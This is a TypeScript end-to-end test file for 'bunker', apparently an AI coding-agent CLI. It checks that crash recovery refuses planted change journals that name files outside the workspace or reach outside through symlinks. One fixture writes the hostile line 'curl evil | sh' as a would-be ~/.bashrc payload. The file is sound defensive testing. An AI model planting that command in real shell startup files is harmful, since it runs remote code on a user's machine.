// A change journal bunker did not write (planted in its state folder, or
// damaged) is not replayed at start: recovery renames and removes what a
// journal names, so one naming files outside the workspace, or side files not
// named as bunker names them, is refused in one line and kept aside. Real
// binary, real start, the scripted server.
import { expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { sideFileName, type JournalEntry } from "../../src/fs/journal.ts";
import { reply } from "../support/fake-anthropic/steps.ts";
import { endToEnd, runHeadless } from "../support/cli.ts";

const e2e = endToEnd("bunker-planted-journal-");

/** A journal in the state folder of `env`, named as one of `root`'s, by a writer long gone. */
function plant(env: Record<string, string>, root: string, entry: Omit<JournalEntry, "v" | "pid" | "started" | "root" | "at" | "label">): string {
  const dir = join(env.HOME!, ".local", "state", "bunker", "journal");
  mkdirSync(dir, { recursive: true });
  const path = join(dir, `${Bun.hash(root).toString(16)}-999999-planted.json`);
  writeFileSync(path, JSON.stringify({ v: 1, pid: 999999, started: "gone", root, at: Date.now(), label: "apply_patch", ...entry }));
  return path;
}

test("a planted journal naming files outside the workspace removes and writes nothing: one line, the journal kept aside, the run goes on", async () => {
  e2e.serve([reply("Fine."), reply("Fine."), reply("Fine.")]);
  const { root: made, env } = e2e.workspace();
  const root = realpathSync(made);
  // Outside: a file it would remove (as a leftover temp file), and a place it would fill from the workspace (as a backup put back).
  const keep = join(env.HOME!, "notes.txt");
  mkdirSync(env.HOME!, { recursive: true });
  writeFileSync(keep, "the person's notes");
  const bashrc = join(env.HOME!, ".bashrc");
  const payload = join(root, sideFileName(join(root, ".bashrc"), 1, "abc", "bak"));
  writeFileSync(payload, "curl evil | sh\n");
  const journal = plant(env, root, {
    phase: "prepare",
    steps: [{ op: "write", target: join(root, "a.ts"), tmp: keep, hash: "x" }],
    dirs: [],
  });
  const r = await runHeadless(root, env, ["-p", "hi"]);
  expect(r.code).toBe(0);
  expect(r.stdout).toBe("Fine.\n");
  expect(readFileSync(keep, "utf8")).toBe("the person's notes");
  expect(r.stderr).toContain(`bunker did not replay the change journal ${journal}: its temporary files for ${join(root, "a.ts")} are not bunker's. Nothing in it was done; it is kept as ${journal}.refused-`);
  const keptAs = /it is kept as (\S+)\.$/m.exec(r.stderr)![1]!;
  expect(readFileSync(keptAs, "utf8")).toContain('"tmp":');

  // A delete step whose target lies outside: the backup beside it would have been renamed to ~/.bashrc.
  const second = plant(env, root, { phase: "commit", steps: [{ op: "delete", target: bashrc, backup: payload }], dirs: [] });
  const again = await runHeadless(root, env, ["-p", "hi"]);
  expect(again.code).toBe(0);
  expect(existsSync(bashrc)).toBe(false);
  expect(readFileSync(payload, "utf8")).toBe("curl evil | sh\n");
  expect(again.stderr).toContain(`bunker did not replay the change journal ${second}: it names ${bashrc}, outside the workspace.`);
  // Each is said once: the next start finds nothing to say.
  const third = await runHeadless(root, env, ["-p", "hi"]);
  expect(third.stderr).not.toContain("change journal");
  // The second, planted under the same name, is kept beside the first.
  expect(second).toBe(journal);
  const kept = readdirSync(join(env.HOME!, ".local", "state", "bunker", "journal"));
  expect(kept).toHaveLength(2);
  for (const k of kept) expect(k).toStartWith(`${journal.split("/").at(-1)}.refused-`);
});

test("a link in the workspace to a folder outside is not a way out: recovery walks the path without following links", async () => {
  e2e.serve([reply("Fine.")]);
  const { root: made, env } = e2e.workspace();
  const root = realpathSync(made);
  const outside = join(env.HOME!, "docs");
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, "plan.md"), "the plan");
  const { symlinkSync } = await import("node:fs");
  symlinkSync(outside, join(root, "docs"));
  // Its temp and backup files, as bunker names them, but in the folder outside: a prepare-phase recovery removes both.
  const target = join(root, "docs", "plan.md");
  const tmp = join(root, "docs", sideFileName(target, 1, "abc", "tmp"));
  const backup = join(root, "docs", sideFileName(target, 1, "abc", "bak"));
  writeFileSync(tmp, "t");
  writeFileSync(backup, "b");
  // And a folder it "made" there, empty: removing it through the link would remove the one outside.
  mkdirSync(join(outside, "made"));
  const madeDir = join(root, "docs", "made");
  const inMade = join(madeDir, "new.md");
  const journal = plant(env, root, {
    phase: "prepare",
    steps: [{ op: "write", target, tmp, backup, hash: "x" }, { op: "write", target: inMade, tmp: join(madeDir, sideFileName(inMade, 1, "abc", "tmp")), hash: "y" }],
    dirs: [madeDir],
  });
  const r = await runHeadless(root, env, ["-p", "hi"]);
  expect(r.code).toBe(0);
  expect(readFileSync(tmp, "utf8")).toBe("t");
  expect(readFileSync(backup, "utf8")).toBe("b");
  expect(readFileSync(join(outside, "plan.md"), "utf8")).toBe("the plan");
  expect(existsSync(join(outside, "made"))).toBe(true);
  expect(r.stderr).toContain("nothing had changed");
  expect(r.stderr).toContain(`Could not restore: ${madeDir} (created directory not removed: ${join(root, "docs")} is now a symbolic link`);
  expect(existsSync(journal)).toBe(false);
});
